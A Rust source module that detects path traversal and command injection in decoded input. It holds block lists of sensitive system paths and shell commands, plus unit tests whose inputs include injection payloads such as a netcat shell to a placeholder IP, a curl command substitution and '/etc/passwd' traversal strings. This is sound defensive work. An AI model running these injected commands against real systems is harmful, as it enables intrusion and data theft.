//! Path traversal and command injection (ATK-1), on decoded text (see the
//! parent module). Both are narrow on purpose: free text in remarks and
//! addresses has semicolons, pipes, dashes and slashes, so a finding needs
//! the *shape* of an attack, not one character.

/// Well-known system paths and schemes a parameter has no business naming
/// (compared in ASCII lower case).
const SYSTEM_PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self",
    "/dev/tcp/",
    "\\windows\\",
    "/windows/",
    "boot.ini",
    "win.ini",
    "file://",
];

/// Path traversal: a `..` segment (between separators, or at either end
/// next to one), a well-known system path, or a NUL or other control
/// character (tab, CR and LF excepted).
pub fn traversal(s: &str) -> bool {
    let b = s.as_bytes();
    // C0 controls but tab, CR and LF; DEL; C1 controls (U+0080..U+009F,
    // `C2 80`..`C2 9F` in UTF-8).
    let control = b.iter().enumerate().any(|(i, &c)| {
        (c < 0x20 && !matches!(c, b'\t' | b'\r' | b'\n'))
            || c == 0x7f
            || (c == 0xc2 && b.get(i + 1).is_some_and(|n| (0x80..=0x9f).contains(n)))
    });
    if control {
        return true;
    }
    let sep = |c: Option<&u8>| matches!(c, Some(b'/' | b'\\'));
    let mut i = 0;
    // Short strings: a plain scan beats building a searcher per call.
    while let Some(p) = b[i..].windows(2).position(|w| w == b"..") {
        let at = i + p;
        let before = at.checked_sub(1).and_then(|k| b.get(k));
        let after = b.get(at + 2);
        if (sep(after) && (at == 0 || sep(before))) || (sep(before) && after.is_none()) {
            return true;
        }
        i = at + 1;
    }
    if !s.contains(['/', '\\', '.', ':']) {
        return false;
    }
    let lower = s.to_ascii_lowercase();
    SYSTEM_PATHS.iter().any(|p| lower.contains(p))
}

/// Commands an injection typically runs first (reconnaissance, download,
/// a shell). Compared in ASCII lower case, with any `/bin/`-style prefix
/// removed.
const COMMANDS: &[&str] = &[
    "bash",
    "cat",
    "chmod",
    "cmd",
    "curl",
    "echo",
    "id",
    "ifconfig",
    "ls",
    "nc",
    "ncat",
    "netcat",
    "nslookup",
    "perl",
    "php",
    "ping",
    "powershell",
    "python",
    "python3",
    "rm",
    "sh",
    "sleep",
    "uname",
    "wget",
    "whoami",
    "zsh",
];

/// Command injection: a shell metacharacter (`;`, `|`, `&`, a newline, a
/// backquote or `$(`) followed by a known command that is either the end
/// of the text, or followed by another metacharacter, or by an argument
/// that looks like one (`/path`, `-flag`, `$VAR`, `./x`, `~`, `<`, `>` or a
/// URL); and `${IFS}`-style obfuscation anywhere. "; cat food" in a remark
/// is not a finding; "; cat /etc/x", "| id" and "`whoami`" are.
pub fn command(s: &str) -> bool {
    if !s.contains([';', '|', '&', '\n', '`', '$']) {
        return false;
    }
    let lower = s.to_ascii_lowercase();
    if lower.contains("${ifs}") || lower.contains("$ifs") {
        return true;
    }
    let b = lower.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let after_meta = match b[i] {
            b';' | b'|' | b'&' | b'\n' | b'`' => Some(i + 1),
            b'$' if b.get(i + 1) == Some(&b'(') => Some(i + 2),
            _ => None,
        };
        if let Some(start) = after_meta {
            if command_follows(&lower[start..]) {
                return true;
            }
        }
        i += 1;
    }
    false
}

/// Whether `rest` (after a metacharacter) starts with a command as
/// [`command`] describes.
fn command_follows(rest: &str) -> bool {
    let rest = rest.trim_start_matches([' ', '\t', '|', '&', '(', '{']);
    let word_end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '_' | '.' | '-')))
        .unwrap_or(rest.len());
    let word = &rest[..word_end];
    let name = word.rsplit('/').next().unwrap_or(word);
    if !COMMANDS.contains(&name) {
        return false;
    }
    let tail = &rest[word_end..];
    let Some(next) = tail.chars().next() else {
        return true;
    };
    if matches!(next, ';' | '|' | '&' | '`' | ')' | '\n' | '>' | '<') {
        return true;
    }
    if next != ' ' && next != '\t' {
        return false;
    }
    let arg = tail.trim_start_matches([' ', '\t']);
    // `sleep 5`, `ping 10.0.0.1`: a timing or reachability probe.
    let probe = matches!(name, "sleep" | "ping") && arg.starts_with(|c: char| c.is_ascii_digit());
    probe
        || arg.is_empty()
        || arg.starts_with(['/', '-', '$', '~', '<', '>', '`', '|', ';', '&'])
        || arg.starts_with("./")
        || arg.starts_with("http:")
        || arg.starts_with("https:")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn atk_1_traversal_shapes() {
        for s in [
            "../etc/x",
            "a/../../b",
            "..\\windows",
            "x/..",
            "/ETC/PASSWD",
            "name\0.jpg",
            "C:\\Windows\\system32",
        ] {
            assert!(traversal(s), "{s}");
        }
        for s in [
            "等等...",
            "see p. 12..15",
            "v1.2.3",
            "备注: 1..2",
            "https://example.com/a/b",
            "line\nbreak",
        ] {
            assert!(!traversal(s), "{s}");
        }
    }

    #[test]
    fn atk_1_command_shapes() {
        for s in [
            "x; cat /etc/hosts",
            "1 | id",
            "a && whoami",
            "`whoami`",
            "$(curl http://x)",
            "a;/bin/sh -i",
            "a${IFS}b",
            "x|nc -e sh 1.2.3.4 80",
            "a;sleep 5;",
        ] {
            assert!(command(s), "{s}");
        }
        for s in [
            "please pay; cat food is included",
            "A & B trading co.",
            "price: $100; id card attached",
            "Tom & Jerry | echoes",
            "张三; 李四",
        ] {
            assert!(!command(s), "{s}");
        }
    }
}
